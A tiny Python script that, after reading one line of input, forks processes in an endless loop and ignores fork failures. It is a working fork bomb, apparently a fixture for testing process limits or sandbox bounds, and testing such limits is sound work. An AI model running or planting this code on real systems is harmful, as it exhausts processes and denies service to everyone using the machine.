"""Starts processes without end, each of which does the same: whatever the bound, the last ones are refused."""

import contextlib
import os
import sys

sys.stdin.readline()
while True:
    with contextlib.suppress(OSError):
        os.fork()
